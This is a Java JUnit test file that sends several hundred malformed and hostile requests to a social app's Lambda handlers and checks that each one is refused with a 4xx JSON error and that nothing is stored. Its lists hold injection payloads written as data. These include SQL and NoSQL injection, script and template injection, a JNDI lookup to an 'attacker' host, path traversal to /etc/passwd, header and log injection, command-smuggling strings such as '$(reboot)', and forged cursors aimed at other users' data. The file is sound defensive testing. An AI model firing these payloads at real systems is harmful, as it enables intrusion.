package com.cruddur.platform.http;

import static org.assertj.core.api.Assertions.assertThat;

import com.cruddur.message.Conversations;
import com.cruddur.support.ApiResponse;
import com.cruddur.support.TableSnapshot;
import com.cruddur.support.TestDynamo;
import com.cruddur.support.TestLambda;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;

/**
 * A corpus of malformed and hostile requests (well over 300), each through the real Lambda handler
 * of the function that serves its route: every one must be a 4xx with a JSON array of error codes,
 * none a 5xx, and nothing may be stored. Built from parts (bodies, fields, paths, queries, headers,
 * methods) so each shape is tried on every route it applies to.
 */
class HostileRequestsTest {

  static final String ACTIVITY = "68f126b0-1ceb-4a33-88be-d90fa7109eee";
  static TableSnapshot itemsBefore;

  /**
   * One hostile request: a name for the report, the function that receives it, and how to build its
   * event.
   */
  record Case(String name, String function, String fixture, UnaryOperator<ObjectNode> build) {}

  @BeforeAll
  static void seed() {
    TestLambda.harness();
    TestDynamo.freshSeeded();
    itemsBefore = TestDynamo.snapshot();
  }

  @AfterAll
  static void nothingWasStored() {
    assertThat(itemsBefore.writesSince()).as("items after the whole corpus").isEmpty();
  }

  // ------------------------------------------------------------------------------------------------ parts

  /** Bodies that are not a JSON object at all, or not JSON. */
  static final List<String> BROKEN_BODIES =
      List.of(
          "",
          " ",
          "{",
          "}",
          "[",
          "[]",
          "null",
          "true",
          "0",
          "-1",
          "1e999",
          "\"just a string\"",
          "{\"message\":}",
          "{\"message\" \"x\"}",
          "{'message':'single quotes'}",
          "{\"message\":\"x\",}",
          "{\"message\":\"x\"} trailing",
          "{\"message\":\"x\"}{}",
          "/* comment */ {}",
          "{\"message\":\"unterminated}",
          "{\"message\":\"\\ud800\"}",
          "{\"message\":\"bad \\x escape\"}",
          "{\"message\":NaN}",
          "{\"message\":Infinity}",
          "\u0000",
          "{\"a\":".repeat(2000) + "1" + "}".repeat(2000),
          "[".repeat(5000),
          "<xml>not json</xml>",
          "message=form&ttl=encoded",
          "\uFEFF{\"message\":\"bom\"}x");

  /** Values of "message" that are not an acceptable message (with a valid ttl beside them). */
  static final List<Object> BAD_MESSAGES =
      List.of(
          "",
          "   ",
          "\t\n",
          "\u00A0\u2003",
          "\u200B\u200B",
          "x".repeat(70_000 / 2),
          "nul\u0000byte",
          "bell\u0007",
          "escape\u001b[31m",
          "del\u007f",
          "line\u2028sep",
          "\u202Eright-to-left override",
          "isolate\u2066x\u2069",
          "\uFFFF",
          "\uFDD0",
          "c1\u0085control",
          42,
          -1,
          0.5,
          true,
          false,
          List.of(),
          List.of("a"),
          Map.of(),
          Map.of("text", "x"));

  /**
   * Messages over the limit of each write: 280 for activities, 1024 for replies, counted in
   * characters.
   */
  static List<String> tooLong(int limit) {
    return List.of(
        "x".repeat(limit + 1), "é".repeat(limit + 1), "🌍".repeat(limit + 1), "x ".repeat(limit));
  }

  /** Values of "ttl" the frontend never sends. */
  static final List<Object> BAD_TTLS =
      List.of(
          "",
          " ",
          "forever",
          "1-days",
          "1-DAY",
          "-1-day",
          "0-hours",
          "7 days",
          "1-day; DROP TABLE activities",
          "../1-day",
          "1-day\u0000",
          "${jndi:ldap://x/a}",
          1,
          24,
          true,
          List.of("1-day"),
          Map.of("days", 1));

  /** Strings that attack something: SQL/NoSQL, script, template, path, header and log injection. */
  static final List<String> INJECTIONS =
      List.of(
          "' OR '1'='1",
          "\"; DROP TABLE users; --",
          "{\"$gt\":\"\"}",
          "<script>alert(1)</script>",
          "{{7*7}}",
          "${7*7}",
          "${jndi:ldap://attacker/a}",
          "../../../etc/passwd",
          "..%2F..%2Fetc%2Fpasswd",
          "%00",
          "\r\nSet-Cookie: x=1",
          "\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
          "attribute_not_exists(pk)",
          "#pk = :pk",
          "`id`",
          "|| ls",
          "$(reboot)");

  static final List<String> BAD_UUIDS =
      List.of(
          "not-a-uuid",
          "68f126b0-1ceb-4a33-88be-d90fa7109ee",
          "68f126b0-1ceb-4a33-88be-d90fa7109eeeg",
          "68F126B0-1CEB-4A33-88BE-D90FA7109EEE-",
          "68f126b01ceb4a3388bed90fa7109eee",
          "{68f126b0-1ceb-4a33-88be-d90fa7109eee}",
          "68f126b0_1ceb_4a33_88be_d90fa7109eee",
          "0",
          "-1",
          "null",
          "68f126b0-1ceb-4a33-88be-d90fa7109eee%00",
          "%2e%2e",
          "..",
          "Ω",
          " 68f126b0-1ceb-4a33-88be-d90fa7109eee");

  static final List<String> BAD_HANDLES =
      List.of(
          "@",
          "@@",
          "@a b",
          "@" + "a".repeat(65),
          "@%00",
          "@<b>",
          "@../admin",
          "@andrew brown",
          "@andrew;brown",
          "@'or'1'='1",
          "@\u202Eevil",
          "@.",
          "@-",
          "@🙂");

  // ------------------------------------------------------------------------------------------------ corpus

  static List<Case> corpus() {
    List<Case> cases = new ArrayList<>();
    Map<String, String> writes = new LinkedHashMap<>();
    writes.put("CreateActivityFunction", "create-activity.json");
    writes.put("CreateReplyFunction", "create-reply.json");
    writes.put("CreateMessageFunction", "create-message.json");

    writes.forEach(
        (function, fixture) -> {
          for (String body : BROKEN_BODIES) {
            cases.add(
                new Case(
                    "broken body " + abbreviate(body),
                    function,
                    fixture,
                    e -> TestLambda.withBody(e, body)));
          }
          List<Object> messages = new ArrayList<>(BAD_MESSAGES);
          messages.addAll(tooLong(function.equals("CreateActivityFunction") ? 280 : 1024));
          for (Object message : messages) {
            cases.add(
                new Case(
                    "message " + abbreviate(String.valueOf(message)),
                    function,
                    fixture,
                    e -> TestLambda.withBody(e, body(message, "1-day", function))));
          }
          if (function.equals("CreateActivityFunction")) {
            // Injection text is a fine message; as a ttl it must be refused.
            for (String injection : INJECTIONS) {
              cases.add(
                  new Case(
                      "ttl injection " + abbreviate(injection),
                      function,
                      fixture,
                      e ->
                          TestLambda.withBody(
                              e, TestLambda.json(Map.of("message", "hi", "ttl", injection)))));
            }
            for (Object ttl : BAD_TTLS) {
              cases.add(
                  new Case(
                      "ttl " + abbreviate(String.valueOf(ttl)),
                      function,
                      fixture,
                      e ->
                          TestLambda.withBody(
                              e, TestLambda.json(Map.of("message", "hi", "ttl", ttl)))));
            }
            cases.add(
                new Case(
                    "ttl missing",
                    function,
                    fixture,
                    e -> TestLambda.withBody(e, "{\"message\":\"hi\"}")));
          }
          // A lone surrogate can only arrive as a JSON escape (it has no UTF-8 form), so it is
          // written as one.
          for (String escaped :
              List.of("\\ud800 lone high", "lone low \\udc00", "\\udc00\\ud800 reversed")) {
            cases.add(
                new Case(
                    "message " + escaped,
                    function,
                    fixture,
                    e ->
                        TestLambda.withBody(
                            e, "{\"message\":\"" + escaped + "\",\"ttl\":\"1-day\"}")));
          }
          cases.add(
              new Case(
                  "message missing",
                  function,
                  fixture,
                  e -> TestLambda.withBody(e, "{\"ttl\":\"1-day\"}")));
          cases.add(
              new Case(
                  "body too large",
                  function,
                  fixture,
                  e ->
                      TestLambda.withBody(
                          e, "{\"message\":\"" + "x".repeat(70_000) + "\",\"ttl\":\"1-day\"}")));
          cases.add(
              new Case(
                  "invalid UTF-8",
                  function,
                  fixture,
                  e ->
                      base64Body(
                          e,
                          new byte[] {
                            '{', '"', 'm', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'
                          })));
          cases.add(
              new Case(
                  "overlong UTF-8 slash",
                  function,
                  fixture,
                  e ->
                      base64Body(
                          e,
                          new byte[] {
                            '{', '"', 'm', '"', ':', '"', (byte) 0xC0, (byte) 0xAF, '"', '}'
                          })));
          cases.add(
              new Case(
                  "body not base64",
                  function,
                  fixture,
                  e -> {
                    e.put("isBase64Encoded", true);
                    return TestLambda.withBody(e, "%%% not base64 %%%");
                  }));
          for (String type :
              List.of(
                  "text/plain",
                  "application/xml",
                  "multipart/form-data; boundary=x",
                  "application/x-www-form-urlencoded",
                  "application/json-patch+json",
                  "image/png",
                  "*/*; q=0")) {
            cases.add(
                new Case(
                    "content type " + type,
                    function,
                    fixture,
                    e -> TestLambda.withHeader(e, "Content-Type", type)));
          }
          cases.add(
              new Case(
                  "no content type",
                  function,
                  fixture,
                  e -> TestLambda.withHeader(e, "Content-Type", null)));
          cases.add(
              new Case("not signed in", function, fixture, e -> TestLambda.withSubject(e, null)));
          cases.add(
              new Case(
                  "unknown subject",
                  function,
                  fixture,
                  e -> TestLambda.withSubject(e, "00000000-0000-0000-0000-000000000000")));
          cases.add(
              new Case(
                  "access token of another app client",
                  function,
                  fixture,
                  e -> {
                    ((ObjectNode) e.at("/requestContext/authorizer/claims"))
                        .put("client_id", "someotherappclient0000000");
                    return e;
                  }));
          cases.add(
              new Case(
                  "id token instead of access token",
                  function,
                  fixture,
                  e -> {
                    ((ObjectNode) e.at("/requestContext/authorizer/claims")).put("token_use", "id");
                    return e;
                  }));
          for (String key : List.of("short", "has spaces", "x".repeat(200), "semi;colon", "ünï")) {
            cases.add(
                new Case(
                    "idempotency key " + abbreviate(key),
                    function,
                    fixture,
                    e -> TestLambda.withHeader(e, "Idempotency-Key", key)));
          }
          for (String method : List.of("PUT", "DELETE", "PATCH")) {
            cases.add(
                new Case(
                    method + " on a write route", function, fixture, e -> withMethod(e, method)));
          }
        });

    for (String uuid : BAD_UUIDS) {
      cases.add(
          new Case(
              "reply to " + abbreviate(uuid),
              "CreateReplyFunction",
              "create-reply.json",
              e -> TestLambda.withPath(e, "/api/activities/" + uuid + "/reply", uuid)));
      cases.add(
          new Case(
              "show " + abbreviate(uuid),
              "ShowActivityFunction",
              "show-activity.json",
              e -> TestLambda.withPath(e, "/api/activities/" + uuid, uuid)));
    }
    cases.add(
        new Case(
            "reply to an unknown activity",
            "CreateReplyFunction",
            "create-reply.json",
            e ->
                TestLambda.withPath(
                    e,
                    "/api/activities/00000000-0000-4000-8000-000000000000/reply",
                    "00000000-0000-4000-8000-000000000000")));
    for (String handle : BAD_HANDLES) {
      cases.add(
          new Case(
              "user feed " + abbreviate(handle),
              "ShowActivityFunction",
              "user-activities.json",
              e -> withHandle(e, handle)));
    }
    for (String injection : INJECTIONS) {
      cases.add(
          new Case(
              "path " + abbreviate(injection),
              "ShowActivityFunction",
              "show-activity.json",
              e -> TestLambda.withPath(e, "/api/activities/" + injection, injection)));
      cases.add(
          new Case(
              "cursor " + abbreviate(injection),
              "HomeActivitiesFunction",
              "home.json",
              e -> TestLambda.withQuery(e, Map.of("cursor", injection))));
      cases.add(
          new Case(
              "limit " + abbreviate(injection),
              "HomeActivitiesFunction",
              "home.json",
              e -> TestLambda.withQuery(e, Map.of("limit", injection))));
    }
    for (String limit : List.of("-1", "0", "abc", "1.5", "99999999999", "1e3", "")) {
      for (String[] route :
          new String[][] {
            {"HomeActivitiesFunction", "home.json"},
            {"NotificationsActivitiesFunction", "notifications.json"},
            {"ShowActivityFunction", "user-activities.json"}
          }) {
        cases.add(
            new Case(
                "limit " + limit + " on " + route[1],
                route[0],
                route[1],
                e -> TestLambda.withQuery(e, Map.of("limit", limit))));
      }
    }
    String foreignCursor =
        Base64.getUrlEncoder()
            .encodeToString("{\"pk\":{\"S\":\"USER#admin\"}}".getBytes(StandardCharsets.UTF_8));
    for (String cursor :
        List.of("garbage", "%%%", foreignCursor, "eyJ0eXAiOiJKV1QifQ", "A".repeat(5000))) {
      cases.add(
          new Case(
              "cursor " + abbreviate(cursor),
              "HomeActivitiesFunction",
              "home.json",
              e -> TestLambda.withQuery(e, Map.of("cursor", cursor))));
      cases.add(
          new Case(
              "replies cursor " + abbreviate(cursor),
              "ShowActivityFunction",
              "show-activity.json",
              e -> TestLambda.withQuery(e, Map.of("cursor", cursor))));
    }
    for (String term :
        List.of("", "   ", "\u00A0", "x".repeat(101), "\u0000", "\u0007bell", "\u202Eevil")) {
      cases.add(
          new Case(
              "search term " + abbreviate(term),
              "SearchActivitiesFunction",
              "search.json",
              e -> TestLambda.withQuery(e, Map.of("term", term))));
    }
    cases.add(
        new Case(
            "search without term",
            "SearchActivitiesFunction",
            "search.json",
            e -> TestLambda.withQuery(e, null)));
    cases.add(
        new Case(
            "notifications not signed in",
            "NotificationsActivitiesFunction",
            "notifications.json",
            e -> TestLambda.withSubject(e, null)));
    for (String method : List.of("PUT", "DELETE", "PATCH", "POST")) {
      cases.add(
          new Case(
              method + " on the home feed",
              "HomeActivitiesFunction",
              "home.json",
              e -> withMethod(e, method)));
      cases.add(
          new Case(
              method + " on search",
              "SearchActivitiesFunction",
              "search.json",
              e -> withMethod(e, method)));
    }
    messages(cases);
    for (String accept : List.of("text/html", "application/xml", "image/png")) {
      cases.add(
          new Case(
              "accept " + accept,
              "HomeActivitiesFunction",
              "home.json",
              e -> TestLambda.withHeader(e, "Accept", accept)));
    }
    return cases;
  }

  @TestFactory
  Stream<DynamicTest> everyHostileRequestIsA4xxJsonErrorAndNothingIsStored() {
    List<Case> cases = corpus();
    assertThat(cases).hasSizeGreaterThanOrEqualTo(300);
    return cases.stream()
        .map(
            c ->
                DynamicTest.dynamicTest(
                    c.name(),
                    () -> {
                      ObjectNode event = c.build().apply(TestLambda.event(c.fixture()));
                      ApiResponse response = TestLambda.invoke(c.function(), event);
                      assertThat(response.status())
                          .as("%s → %s %s", c.name(), response.status(), response.body())
                          .isBetween(400, 499);
                      assertThat(response.header("Content-Type"))
                          .as(c.name())
                          .startsWith("application/json");
                      JsonNode codes = response.json();
                      assertThat(codes.isArray() && codes.size() > 0)
                          .as("%s: %s", c.name(), response.body())
                          .isTrue();
                      codes.forEach(
                          code -> assertThat(code.asText()).as(c.name()).matches("[a-z0-9_]+"));
                    }));
  }

  /** What only the direct-message routes take: a receiver, a conversation handle, their lists. */
  static void messages(List<Case> cases) {
    List<Object> receivers = new ArrayList<>(List.of("", " ", "@worf", "wo rf", "w".repeat(33)));
    receivers.addAll(List.of("nobody-here", "andrewbrown", "ANDREWBROWN", 42, true, List.of()));
    receivers.add(Map.of("handle", "worf"));
    receivers.addAll(INJECTIONS);
    for (Object receiver : receivers) {
      cases.add(
          new Case(
              "receiver " + abbreviate(String.valueOf(receiver)),
              "CreateMessageFunction",
              "create-message.json",
              e ->
                  TestLambda.withBody(
                      e,
                      TestLambda.json(Map.of("message", "hi", "user_receiver_handle", receiver)))));
    }
    cases.add(
        new Case(
            "receiver missing",
            "CreateMessageFunction",
            "create-message.json",
            e -> TestLambda.withBody(e, "{\"message\":\"hi\"}")));
    for (String handle : BAD_HANDLES) {
      cases.add(
          new Case(
              "conversation " + abbreviate(handle),
              "MessagesFunction",
              "messages.json",
              e -> withConversation(e, handle)));
    }
    cases.add(
        new Case(
            "conversation without @",
            "MessagesFunction",
            "messages.json",
            e -> withConversation(e, "worf")));
    cases.add(
        new Case(
            "conversation with oneself",
            "MessagesFunction",
            "messages.json",
            e -> withConversation(e, "@andrewbrown")));
    // A well-formed cursor of another pair's conversation (worf and coco, seeded: seed.json's
    // uuids) and another user's list.
    UUID worfAndCoco =
        Conversations.uuid(
            UUID.fromString("a5a9e8b2-7c1d-4a0e-9f6b-0a1b2c3d4e02"),
            UUID.fromString("a5a9e8b2-7c1d-4a0e-9f6b-0a1b2c3d4e04"));
    String otherConversation =
        cursor("{\"pk\":\"MSG#" + worfAndCoco + "\",\"sk\":\"2026-01-01T00:00:00.000000Z\"}");
    String otherList =
        cursor(
            "{\"gsi3pk\":\"GRP#a5a9e8b2-7c1d-4a0e-9f6b-0a1b2c3d4e02\",\"gsi3sk\":\"z\","
                + "\"pk\":\"GRP#a5a9e8b2-7c1d-4a0e-9f6b-0a1b2c3d4e02\","
                + "\"sk\":\"00000000-0000-3000-8000-000000000000\"}");
    String[][] lists = {
      {"MessageGroupsFunction", "message-groups.json"}, {"MessagesFunction", "messages.json"}
    };
    for (String[] route : lists) {
      for (String cursor :
          List.of("garbage", "%%%", otherConversation, otherList, "A".repeat(5000))) {
        cases.add(
            new Case(
                "cursor " + abbreviate(cursor) + " on " + route[1],
                route[0],
                route[1],
                e -> TestLambda.withQuery(e, Map.of("cursor", cursor))));
      }
      for (String limit : List.of("-1", "0", "51", "abc", "")) {
        cases.add(
            new Case(
                "limit " + limit + " on " + route[1],
                route[0],
                route[1],
                e -> TestLambda.withQuery(e, Map.of("limit", limit))));
      }
      cases.add(
          new Case(
              "not signed in on " + route[1],
              route[0],
              route[1],
              e -> TestLambda.withSubject(e, null)));
      cases.add(
          new Case(
              "id token on " + route[1],
              route[0],
              route[1],
              e -> {
                ((ObjectNode) e.at("/requestContext/authorizer/claims")).put("token_use", "id");
                return e;
              }));
      for (String method : List.of("PUT", "DELETE", "PATCH")) {
        cases.add(
            new Case(method + " on " + route[1], route[0], route[1], e -> withMethod(e, method)));
      }
    }
  }

  // ------------------------------------------------------------------------------------------------ helpers

  private static String cursor(String json) {
    return Base64.getUrlEncoder()
        .withoutPadding()
        .encodeToString(json.getBytes(StandardCharsets.UTF_8));
  }

  private static ObjectNode withConversation(ObjectNode event, String handle) {
    event.put("path", "/api/messages/" + handle);
    ((ObjectNode) event.get("requestContext")).put("path", "/prod/api/messages/" + handle);
    event.putObject("pathParameters").put("handle", handle);
    return event;
  }

  private static String body(Object message, String ttl, String function) {
    Map<String, Object> body = new LinkedHashMap<>();
    body.put("message", message);
    if (function.equals("CreateActivityFunction")) {
      body.put("ttl", ttl);
    }
    if (function.equals("CreateMessageFunction")) {
      body.put("user_receiver_handle", "worf");
    }
    return TestLambda.json(body);
  }

  private static ObjectNode base64Body(ObjectNode event, byte[] body) {
    event.put("isBase64Encoded", true);
    return TestLambda.withBody(event, Base64.getEncoder().encodeToString(body));
  }

  private static ObjectNode withMethod(ObjectNode event, String method) {
    event.put("httpMethod", method);
    ((ObjectNode) event.get("requestContext")).put("httpMethod", method);
    return event;
  }

  private static ObjectNode withHandle(ObjectNode event, String handle) {
    event.put("path", "/api/activities/" + handle);
    ((ObjectNode) event.get("requestContext")).put("path", "/prod/api/activities/" + handle);
    event
        .putObject("pathParameters")
        .put("activity_uuid", handle); // one API Gateway resource serves both
    return event;
  }

  private static String abbreviate(String text) {
    String printable =
        text.codePoints()
            .mapToObj(
                cp ->
                    Character.isISOControl(cp) || !Character.isDefined(cp)
                        ? String.format("\\u%04x", cp)
                        : new String(Character.toChars(cp)))
            .reduce("", String::concat);
    return printable.length() > 40
        ? printable.substring(0, 37) + "…(" + text.length() + ")"
        : printable;
  }
}
